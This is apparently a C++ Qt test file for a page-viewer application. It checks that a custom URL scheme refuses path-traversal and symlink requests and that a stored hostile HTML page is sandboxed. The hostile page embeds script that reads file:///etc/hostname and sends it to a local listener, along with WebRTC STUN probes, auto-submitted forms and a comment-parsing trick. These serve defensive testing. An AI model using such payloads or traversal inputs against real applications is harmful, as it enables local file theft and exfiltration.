// What the content of a page can reach: the answers of the page scheme, the
// policy every page carries, one render process for all pages, and a page
// that tries to read files and send them out.
#include "tests/view/view_fixture.h"
#include "view/page_scheme.h"

#include <QHostAddress>
#include <QTcpServer>
#include <QTest>
#include <QUdpSocket>
#include <QWebEnginePage>

#include <filesystem>
#include <fstream>
#include <set>

namespace velto::test {
namespace {

// --- What the page scheme serves

TEST(PageScheme, ServesPublishedPagesAndPicturesInsideTheImageFolderOnly)
{
    TempDir dir;
    namespace fs = std::filesystem;
    fs::create_directories(dir.file("images14/system"));
    fs::create_directories(dir.file("images14/empty.gif"));
    for (const char* name : {"images14/system/pin.gif", "images14/a b.PNG", "images14/notes.txt", "secret.gif",
                             "page.html"})
        std::ofstream(dir.file(name)) << "x";
    fs::create_symlink(dir.file("secret.gif"), dir.file("images14/link.gif"));

    PageSchemeHandler scheme(dir.file("images14/"));
    const QUrl first = scheme.publish("00A-Z0010000-00", dir.file("page.html"));
    EXPECT_EQ(first.toString(), QStringLiteral("velto://app/page/1/00A-Z0010000-00"));
    EXPECT_EQ(page_image_url(), "velto://app/images/");

    const std::string images = QFileInfo(QString::fromStdString(dir.file("images14"))).canonicalFilePath().toStdString();
    const struct {
        QString url;
        std::string file; // empty: refused
        QByteArray type;
    } cases[] = {
        {first.toString(), dir.file("page.html"), "text/html; charset=utf-8"},
        {QStringLiteral("velto://app/page/2/00A-Z0010000-00"), "", ""}, // never published
        {QStringLiteral("velto://other/page/1/00A-Z0010000-00"), "", ""},
        {QStringLiteral("velto://app/page/1/00A-Z0010000-00?x"), "", ""},
        {QStringLiteral("velto://app/images/system/pin.gif"), images + "/system/pin.gif", "image/gif"},
        {QStringLiteral("velto://app/images/a%20b.PNG"), images + "/a b.PNG", "image/png"},
        {QStringLiteral("velto://app/images/notes.txt"), "", ""},         // not a picture
        {QStringLiteral("velto://app/images/empty.gif"), "", ""},         // a folder
        {QStringLiteral("velto://app/images/link.gif"), "", ""},          // leads out of the folder
        {QStringLiteral("velto://app/images/../secret.gif"), "", ""},
        {QStringLiteral("velto://app/images/%2E%2E/secret.gif"), "", ""},
        {QStringLiteral("velto://app/images/system/../../secret.gif"), "", ""},
        {QStringLiteral("velto://app/images/"), "", ""},
        {QStringLiteral("velto://app/secret.gif"), "", ""},
    };
    for (const auto& c : cases) {
        const PageSchemeHandler::Target target = scheme.resolve(QUrl(c.url));
        EXPECT_EQ(target.file.toStdString(), c.file) << c.url.toStdString();
        EXPECT_EQ(target.type, c.type) << c.url.toStdString();
    }

    // Only the newest pages stay reachable.
    for (std::size_t i = 0; i < PageSchemeHandler::kKeep; ++i)
        scheme.publish("00A-Z0010000-00", dir.file("page.html"));
    EXPECT_TRUE(scheme.resolve(first).file.isEmpty());
    EXPECT_FALSE(scheme.resolve(QUrl(QStringLiteral("velto://app/page/2/00A-Z0010000-00"))).file.isEmpty());
}

// --- In the view

TEST_F(PageViewTest, OneRenderProcessServesEveryPageAndPicturesComeThroughTheScheme)
{
    start();
    std::set<qint64> processes{view->page()->renderProcessPid()};
    for (int n = 100; n < 110; ++n) {
        ASSERT_TRUE(show(generated_page(n)));
        processes.insert(view->page()->renderProcessPid());
    }
    EXPECT_EQ(processes.size(), 1u);

    // The split indicator's pictures.
    ASSERT_TRUE(show("01A-00040000-00"));
    EXPECT_EQ(js(QStringLiteral("Array.from(document.images).map(function (i) { return i.src + ' ' + "
                                "i.naturalWidth; }).join(',')"))
                  .toString()
                  .toStdString(),
              "velto://app/images/system/indicator_red.gif 1,velto://app/images/system/indicator_blue.gif 1,"
              "velto://app/images/system/indicator_red.gif 1,velto://app/images/system/indicator_blue.gif 1");
}

// A page of the database that tries to run script, read files and reach the
// network in every way a page can; the servers note anything that reaches them.
class HostilePageTest : public PageViewTest {
protected:
    static constexpr const char* kHostile = "00A-Z0080000-00";

    void SetUp() override
    {
        ASSERT_TRUE(web.listen(QHostAddress::LocalHost));
        ASSERT_TRUE(stun.bind(QHostAddress::LocalHost));
        QObject::connect(&web, &QTcpServer::newConnection, [this] { ++contacts; });
        QObject::connect(&stun, &QUdpSocket::readyRead, [this] { ++contacts; });
        const QString web_url = QStringLiteral("http://127.0.0.1:%1").arg(web.serverPort());
        QString html = QStringLiteral(R"html(<html><head><title>攻撃</title>
<link rel="stylesheet" href="WEB/style.css">
<meta http-equiv="refresh" content="0;url=WEB/refresh">
</head><body onload="document.body.setAttribute('data-ran', 'onload')">
<p id="text">攻撃のページ</p>
<p><a id="out" href="WEB/?stolen">外へ</a> <a id="own" href="velto://app/page/1/00A-Z0010000-00">表紙の古い番地</a></p>
<img src="WEB/image.gif"><img src="file:///etc/hostname"><img src="velto://app/images/../VT2014.m88">
<iframe id="file" src="file:///etc/hostname" width="20" height="20"></iframe>
<iframe id="web" src="WEB/frame" width="20" height="20"></iframe>
<object data="file:///etc/hostname" width="20" height="20"></object>
<img src="x" onerror="document.body.setAttribute('data-ran', 'onerror')">
<script>
document.body.setAttribute('data-ran', 'script');
var x = new XMLHttpRequest();
try { x.open('GET', 'file:///etc/hostname', false); x.send(); document.body.setAttribute('data-stolen', x.responseText); } catch (e) {}
fetch('file:///etc/hostname').then(function (r) { return r.text(); }).then(function (t) { fetch('WEB/?' + t); });
var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:STUN'}]});
pc.createDataChannel('x');
pc.createOffer().then(function (o) { pc.setLocalDescription(o); });
document.getElementById('out').click();
</script>
<form id="form" action="WEB/form" method="post"><input name="a" value="b"></form>
<script>document.getElementById('form').submit();</script>
</body></html>)html");
        html.replace(QStringLiteral("WEB"), web_url).replace(QStringLiteral("STUN"), QString::number(stun.localPort()));
        html.replace(QLatin1Char('\''), QStringLiteral("''"));
        extra_sql.push_back("INSERT INTO T_他 VALUES ('" + std::string(kHostile) + "', 1, '" + html.toStdString() +
                            "');");
        PageViewTest::SetUp();
    }

    QTcpServer web;
    QUdpSocket stun;
    int contacts = 0;
};

TEST_F(HostilePageTest, ReadsNoFileReachesNoNetworkAndOpensNothingByItself)
{
    start();
    ASSERT_TRUE(show(kHostile));
    const QUrl page_url = view->page()->url();
    QTest::qWait(1500); // time for the refresh, the frames and the peer connection
    EXPECT_EQ(view->_current_id(), kHostile);
    EXPECT_EQ(view->page()->url(), page_url);
    EXPECT_EQ(page_text().left(6), QStringLiteral("攻撃のページ"));

    // No script of the page ran; the file frame shows nothing.
    EXPECT_EQ(js(QStringLiteral("document.body.getAttribute('data-ran') + ' ' + "
                                "document.body.getAttribute('data-stolen')"))
                  .toString()
                  .toStdString(),
              "null null");
    EXPECT_TRUE(js(QStringLiteral("(function () { var d = document.getElementById('file').contentDocument; "
                                  "return d !== null && d.body !== null && d.body.innerText === ''; })()"))
                    .toBool());

    // Clicks made by a script open nothing; the user's click opens the link.
    js(QStringLiteral("document.getElementById('out').click(); true"));
    ASSERT_TRUE(mouse_click(QStringLiteral("#own")));
    QTest::qWait(300);
    EXPECT_TRUE(opened.empty());
    EXPECT_EQ(view->page()->url(), page_url);
    EXPECT_EQ(contacts, 0);

    ASSERT_TRUE(mouse_click(QStringLiteral("#out")));
    ASSERT_TRUE(QTest::qWaitFor([&] { return opened.size() == 1; }, kWait));
    EXPECT_EQ(opened[0].toString(), QStringLiteral("http://127.0.0.1:%1/?stolen").arg(web.serverPort()));
    EXPECT_EQ(contacts, 0);

    // The view's own script still answers.
    EXPECT_TRUE(js(QStringLiteral("typeof veltoPage.anchorAt === 'function'")).toBool());
}

// A page whose comments are read differently by a careless reader: "<!-->"
// ends a comment at once, so the stylesheet after it is content. The policy
// stands before all of it; a srcdoc frame would be a page of its own.
class CommentTrickTest : public PageViewTest {
protected:
    static constexpr const char* kTricky = "00A-Z0080000-00";

    void SetUp() override
    {
        extra_sql.push_back(std::string("INSERT INTO T_他 VALUES ('") + kTricky + "', 1, " +
                            "'<!--><link rel=\"stylesheet\" href=\"data:text/css,%23x%7Bcolor:rgb(1,2,3)%7D\">"
                            "<!-- --><html><body><p id=\"x\">本文</p>"
                            "<iframe id=\"inner\" srcdoc=\"<p id=y>frame</p>\"></iframe></body></html>');");
        PageViewTest::SetUp();
    }
};

TEST_F(CommentTrickTest, ThePolicyComesFirstAndNoSrcdocFrameIsShown)
{
    start();
    ASSERT_TRUE(show(kTricky));
    QTest::qWait(300); // time for a stylesheet and a frame to load
    EXPECT_EQ(js(QStringLiteral("getComputedStyle(document.getElementById('x')).color")).toString().toStdString(),
              "rgb(0, 0, 0)");
    EXPECT_EQ(js(QStringLiteral("(function () { var d = document.getElementById('inner').contentDocument; "
                                "return d && d.getElementById('y') ? 'shown' : 'empty'; })()"))
                  .toString()
                  .toStdString(),
              "empty");
}

} // namespace
} // namespace velto::test
